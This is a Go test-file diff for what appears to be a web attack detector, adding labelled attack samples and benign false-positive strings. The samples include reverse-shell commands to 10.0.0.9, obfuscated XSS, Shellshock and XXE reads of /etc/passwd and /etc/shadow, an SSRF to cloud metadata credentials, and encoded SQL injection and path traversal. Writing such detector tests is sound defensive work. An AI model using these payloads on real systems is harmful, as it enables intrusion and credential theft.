@@ -128,6 +128,10 @@ func captures() []toolCapture {
 		"127.0.0.1\nwhoami",
 		"127.0.0.1 ; ping -c 3 10.0.0.9",
 		"127.0.0.1 & timeout /t 10",
+		// Markdown around a command shows no code that an attack
+		// runs: a reverse shell stays one.
+		"```sh\nbash -i >& /dev/tcp/10.0.0.9/4444 0>&1\n```",
+		"please run `nc -e /bin/sh 10.0.0.9 4444` on the box now",
 	} {
 		cs = append(cs, form("cmdexe", true, exec, "ip", p))
 	}
@@ -307,7 +311,22 @@ func captures() []toolCapture {
 	} {
 		cs = append(cs, get("xss", true, xss, "name", p), viaReferer("xss", xss, "name", p))
 	}
-	for _, p := range []string{"Bob", "Zoë Smith", "Alice & Bob", "O'Neil", "2 < 3", "<3 you"} {
+	// A Referer cut at its length limit ends inside the payload, often
+	// inside an escape: what is left must still read as the attack.
+	for _, p := range []string{
+		"top['\\u0061\\u006c\\u0065\\u0072\\u0074'](1)",
+		"content['con'+'firm'](document.domain)",
+		"'a'.constructor.prototype.charAt=[].join",
+		"<a href=\"&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)\">x</a>",
+		"<a href=\"javascript:alert(1)\">x</a>",
+		"<input autofocus onfocus=alert(1)>",
+	} {
+		full := dvwa + xss + "?name=" + url.QueryEscape(p)
+		for _, cut := range []int{28, 34} {
+			cs = append(cs, toolCapture{"xss", true, "GET", xss + "?name=&Submit=Submit", [][2]string{{"Referer", full[:len(dvwa+xss+"?name=")+cut]}}, ""})
+		}
+	}
+	for _, p := range []string{"Bob", "Zoë Smith", "Alice & Bob", "O'Neil", "2 < 3", "<3 you", "window['dataLayer'] is undefined", "self['cache' + key] returns nothing", "obj.constructor.name"} {
 		cs = append(cs, get("xss", false, xss, "name", p))
 	}
 
@@ -319,6 +338,14 @@ func captures() []toolCapture {
 	other("GET", "/cgi-bin/status", "", [2]string{"User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"})
 	other("POST", "/script", "script="+url.QueryEscape(`println "id".execute().text`), [2]string{"Content-Type", "application/x-www-form-urlencoded"})
 	other("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "")
+	// Syntax across path segments, and escaped payloads in a custom
+	// header: read as a catch-all route and an unescaping application
+	// read them.
+	other("GET", "/run/%24%28/usr/bin/whoami%29/status", "")
+	other("GET", "/items/%20x'%20/%20%2B2%20like%20'1/edit", "")
+	other("GET", "/api/items", "", [2]string{"X-Filter", "....%2F%2F....%2F%2F....%2F%2Fwindows%2Fwin.ini"})
+	other("GET", "/api/items", "", [2]string{"X-Filter", "7%0Cunion%0Cselect%0C1%2C2%2C3%2C4%0C--%0C"})
+	other("GET", "/api/items", "", [2]string{"X-Filter", "%253Csvg%252F%252Fonload%253Dalert%25281%2529%253E"})
 	other("GET", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/", "")
 	other("GET", "/fetch?url="+url.QueryEscape("http://169.254.169.254/latest/meta-data/iam/security-credentials/"), "")
 	other("POST", "/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/shadow">]><r>&x;</r>`, [2]string{"Content-Type", "application/xml"})
@@ -450,6 +477,12 @@ var falsePositiveShapes = []string{
 	"and =XY=Z9QF_=",
 	"sleep well, see you tomorrow",
 	"The system() call in C starts a shell",
+	// Documents showing code: a shell script in a fenced block, commands
+	// in code spans of a sentence, a saved query.
+	"```bash\nset -euo pipefail\nfor d in */; do du -sh \"$d\"; done\n```\n\nDoes this look right?",
+	"Before merging, please run `go vet ./...` and `rm -rf dist/` to clean up",
+	"-- daily signups\nSELECT date(created_at) AS day, count(*) FROM users GROUP BY day ORDER BY day",
+	"SELECT name, email FROM customers WHERE country = 'CH' AND active = 1",
 	"<?xml version=\"1.0\"?><note><to>Tove</to><from>Jani</from><body>Don't forget me this weekend!</body></note>",
 	"<?xml version=\"1.0\" encoding=\"UTF-8\"?><GetCapabilities service=\"WMS\" version=\"1.3.0\" xmlns=\"http://www.opengis.net/wms\"/>",
 	"<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\"><soap:Body><m:GetStockPrice xmlns:m=\"https://www.example.org/stock\"><m:StockName>T</m:StockName></m:GetStockPrice></soap:Body></soap:Envelope>",
